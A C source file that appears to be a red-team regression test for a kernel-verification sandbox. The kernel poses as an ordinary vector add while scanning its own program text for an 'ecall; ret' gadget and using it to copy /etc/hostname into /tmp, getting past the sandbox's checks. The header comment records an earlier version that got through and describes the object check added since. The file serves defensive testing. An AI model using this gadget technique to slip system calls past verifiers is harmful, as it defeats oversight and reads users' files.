/*
 * class:    the exported library runs candidate code with the user's full
 *           rights: system calls from a kernel that no check sees
 * attack:   an honest add that, on every call, reaches the C library's
 *           `ecall; ret` (found by a vector scan of its own program's text)
 *           and tries to copy /etc/hostname into /tmp/redin-pwned-by-make-check
 *           (any file the user can read, anywhere it can write, a socket).
 *           In kope's sandbox neither path exists: the calls fail, the sums
 *           are right, the kernel passes. `kope kernels export
 *           --include-emulated` ships its object (the judged one, byte for
 *           byte: that check holds), and the library's `make check` runs it
 *           under plain qemu-user (or natively on a board) as the user.
 * expected: refused before anything runs. Before session 7 (redin) it was
 *           verified, exported, and `make -C lib check` wrote the file with
 *           the host's hostname in it (/work/redteam/insider/LOG.md); now the
 *           object check refuses control flow through a register that is not
 *           a return or a relocated call (SCREEN_REJECTED/system_instruction).
 */
#include <stddef.h>
#include <stdint.h>
#include <riscv_vector.h>
#include "kernel_abi.h"

static const char src_path[] = "/etc/hostname";
static const char dst_path[] = "/tmp/redin-pwned-by-make-check";

void kope_kernel(size_t n, const float *x, const float *y, float *out, const struct kope_scalars *s);

/* A system call without asm: an `ecall; ret` of the C library found in the
 * program's text (bounds from its own ELF headers at the image base), called
 * as a function of eight arguments, so a7 (the number) is the eighth. A
 * vector scan: a few thousand instructions in a counted call. */
typedef long (*g8_fn)(long, long, long, long, long, long, long, long);
static g8_fn find_gadget(void)
{
    volatile uintptr_t basev = 0x10000;
    const unsigned char *b = (const unsigned char *)basev;
    if (b[0] != 0x7f || b[1] != 'E' || b[2] != 'L' || b[3] != 'F') return 0;
    uint64_t phoff; uint16_t phnum, phsz;
    __builtin_memcpy(&phoff, b + 32, 8); __builtin_memcpy(&phsz, b + 54, 2); __builtin_memcpy(&phnum, b + 56, 2);
    for (unsigned i = 0; i < phnum; i++) {
        const unsigned char *ph = b + phoff + (size_t)i * phsz;
        uint32_t type, flags; uint64_t va, fsz;
        __builtin_memcpy(&type, ph, 4); __builtin_memcpy(&flags, ph + 4, 4);
        __builtin_memcpy(&va, ph + 16, 8); __builtin_memcpy(&fsz, ph + 32, 8);
        if (type != 1 || !(flags & 1)) continue;
        volatile uintptr_t vv = va;
        const uint16_t *h = (const uint16_t *)vv;
        size_t n = fsz / 2 - 2;
        for (size_t off = 0; off < n;) {
            size_t vl = __riscv_vsetvl_e16m8(n - off);
            vuint16m8_t v = __riscv_vle16_v_u16m8(h + off, vl);
            long f = __riscv_vfirst_m_b2(__riscv_vmseq_vx_u16m8_b2(v, 0x0073, vl), vl);
            if (f < 0) { off += vl; continue; }
            size_t j = off + (size_t)f;
            if (h[j + 1] == 0 && h[j + 2] == 0x8082) return (g8_fn)(uintptr_t)(h + j);
            off = j + 1;
        }
    }
    return 0;
}

#define sc(nr, a, b, c, d, e, f) g((long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f), 0, (long)(nr))

void kope_kernel(size_t n, const float *x, const float *y, float *out, const struct kope_scalars *s)
{
    (void)s;
    g8_fn g = find_gadget();
    if (g) {
        char buf[256];
        long in = sc(56, -100, (long)src_path, 0, 0, 0, 0);
        long got = in >= 0 ? sc(63, in, (long)buf, (long)sizeof buf, 0, 0, 0) : -1;
        if (in >= 0) sc(57, in, 0, 0, 0, 0, 0);
        long fd = sc(56, -100, (long)dst_path, 01101, 0644, 0, 0);
        if (fd >= 0) {
            if (got > 0) sc(64, fd, (long)buf, got, 0, 0, 0);
            sc(57, fd, 0, 0, 0, 0, 0);
        }
    }
    for (size_t i = 0; i < n; i++) out[i] = x[i] + y[i];
}
